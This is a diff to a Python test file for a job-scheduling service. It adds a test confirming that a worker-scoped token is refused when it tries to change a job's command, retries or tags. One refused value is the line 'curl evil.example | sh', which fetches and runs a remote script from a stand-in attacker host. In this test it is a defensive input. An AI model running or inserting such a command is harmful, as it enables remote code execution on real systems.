@@ -186,6 +186,18 @@ async def test_a_token_that_is_used_from_another_address_is_told(live: Live) -> 
     assert len(told) == 1 + access.TOKEN_ADDRESSES_MAX
 
 
+async def test_who_works_does_not_say_what_is_run(live: Live) -> None:
+    root = await admin_of(live)
+    worker = await root.token_for("w", "work")
+    job = (await root.ok("CreateJob", name="a", cmd="true"))["jobID"]
+    assert (await worker.http("UpdateJob", jobID=job, data={"n": 1}, jobPriority=750)).code == 200
+    for option in ({"cmd": "curl evil.example | sh"}, {"retries": 9}, {"tags": "x"}):
+        refused = (await worker.http("UpdateJob", jobID=job, **option)).json
+        assert (refused["code"], refused["reason"]) == (403, "Forbidden")
+        assert refused["detail"].startswith(f"{next(iter(option))}: ")
+    assert (await root.http("UpdateJob", jobID=job, cmd="false")).code == 200
+
+
 async def test_revoking_ends_waits_at_once(live: Live) -> None:
     root = await admin_of(live)
     worker = await root.token_for("w", "read,work")
